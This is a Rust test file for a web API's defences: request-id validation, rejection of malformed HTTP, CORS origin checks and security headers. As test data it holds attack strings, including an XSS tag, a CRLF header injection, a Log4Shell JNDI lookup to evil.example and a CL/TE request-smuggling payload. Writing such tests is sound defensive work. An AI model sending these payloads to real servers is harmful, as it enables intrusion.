//! What a caller says about itself: request ids, origins, addresses. Nothing of it is believed or repeated unread.

use serde_json::json;

use crate::support::app::{APP_BASE_URL, Plan, TestApp};

async fn house() -> TestApp {
    Plan::new().idle().start().await
}

#[tokio::test]
async fn a_request_id_is_a_plain_word_or_ours() {
    let app = house().await;
    let kept = app.door.call("tier_list").header("x-request-id", "edge-0042.a_b").send().await.of(200);
    assert_eq!(kept.header("x-request-id"), "edge-0042.a_b");
    for hostile in [
        "short",
        "has blanks in it",
        "<script>alert(1)</script>",
        "evil%0d%0aset-cookie:%20a=b",
        "evil\tset-cookie: a=b",
        "${jndi:ldap://evil.example/a}",
        "ünïcödé-ïd",
        "\"quoted-id\"",
        &"x".repeat(65),
    ] {
        let answer = app.door.call("vendor_view").at("slug", "none").header("x-request-id", hostile).send().await;
        let ours = answer.header("x-request-id").to_owned();
        assert!(uuid::Uuid::parse_str(&ours).is_ok(), "{hostile}: {ours}");
        assert!(answer.header("set-cookie").is_empty());
        assert!(!answer.problem(404, "not_found").to_string().contains(hostile));
    }
}

#[tokio::test]
async fn a_request_that_is_none_is_refused_before_it_is_read() {
    let app = house().await;
    let head = "GET /api/health HTTP/1.1\r\nHost: crb\r\nConnection: close\r\n";
    for broken in [
        format!("{head}X-Request-Id: edge-0042\rX-Evil: 1\r\n\r\n"),
        format!("{head}X-Request-Id: edge\u{0}0042\r\n\r\n"),
        format!("{head}X-Request-Id : edge-0042\r\n\r\n"),
        "GET /api/health HTTP/9.9\r\n\r\n".to_owned(),
        "GET /api/health with blanks HTTP/1.1\r\nHost: crb\r\n\r\n".to_owned(),
        "\u{16}\u{3}\u{1}\u{2}\u{0}not tls here\r\n\r\n".to_owned(),
        format!("{head}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello"),
    ] {
        let said = app.door.shout(broken.as_bytes()).await;
        assert!(said.starts_with("HTTP/1.1 400") || said.is_empty(), "{broken:?}: {said}");
        assert!(!said.to_lowercase().contains("x-evil"), "{said}");
    }
    // A second request hidden in the first is a second request, and answered as one.
    let smuggled = "POST /api/v1/quiz/sessions HTTP/1.1\r\nHost: crb\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/admin/stats HTTP/1.1\r\nHost: crb\r\nConnection: close\r\n\r\n";
    let said = app.door.shout(smuggled.as_bytes()).await;
    assert!(!said.contains("queue_depth"), "{said}");
    // The control: the same, unbroken.
    let said = app.door.shout(format!("{head}X-Request-Id: edge-0042\r\n\r\n").as_bytes()).await;
    assert!(said.starts_with("HTTP/1.1 200") && said.contains("x-request-id: edge-0042"), "{said}");
}

#[tokio::test]
async fn only_our_own_page_may_read_from_a_browser() {
    let app = Plan::new().idle().with("CORS_ORIGINS", "https://other-page.example").start().await;
    let permission = "access-control-allow-origin";
    for origin in [APP_BASE_URL, "https://other-page.example"] {
        let read = app.door.call("tier_list").header("origin", origin).send().await.of(200);
        assert_eq!((read.header(permission), read.header("access-control-allow-credentials")), (origin, "true"));
        assert!(read.headers.get_all("vary").iter().any(|value| value == "Origin"));
        let asked = app.door.knock("OPTIONS", "/api/v1/orders").header("origin", origin);
        let asked = asked.header("access-control-request-method", "POST").send().await.of(204);
        assert_eq!(asked.header(permission), origin);
        assert!(asked.header("access-control-allow-headers").contains("idempotency-key"));
        // A refusal is readable too, or the page could not say why.
        let refused = app.door.call("session_create").json(&json!({})).header("origin", origin).send().await;
        assert_eq!(refused.header(permission), origin);
    }
    for origin in [
        "https://evil.example",
        "null",
        "http://app.crb.test.evil.example",
        "https://app.crb.test",
        "http://app.crb.test:8080",
        "http://APP.crb.test",
        "*",
    ] {
        let read = app.door.call("tier_list").header("origin", origin).send().await.of(200);
        let asked = app.door.knock("OPTIONS", "/api/v1/orders").header("origin", origin);
        let asked = asked.header("access-control-request-method", "POST").send().await.of(204);
        for answer in [read, asked] {
            assert!(answer.headers.keys().all(|name| !name.as_str().starts_with("access-control-")), "{origin}");
        }
    }
}

#[tokio::test]
async fn every_answer_is_hardened_whatever_it_says() {
    let app = house().await;
    let answers = [
        app.door.call("health_live").send().await.of(200),
        app.door.call("docs_view").send().await.of(200),
        app.door.call("session_create").json(&json!({})).send().await.of(422),
        app.door.knock("GET", "/nowhere").send().await.of(404),
        app.door.knock("PUT", "/api/v1/tiers").send().await.of(405),
        app.door.call("admin_stats_view").send().await.of(401),
        app.door.knock("OPTIONS", "/api/v1/orders").send().await,
    ];
    for answer in answers {
        for (name, value) in [
            ("strict-transport-security", "max-age=31536000; includeSubDomains"),
            ("x-content-type-options", "nosniff"),
            ("referrer-policy", "no-referrer"),
            ("cross-origin-opener-policy", "same-origin"),
            ("x-robots-tag", "noindex"),
        ] {
            assert_eq!(answer.header(name), value, "{}", answer.text());
        }
        let policy = answer.header("content-security-policy");
        assert!(policy.starts_with("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{policy}");
        assert!(answer.header("server").is_empty() && !answer.header("permissions-policy").is_empty());
    }
}
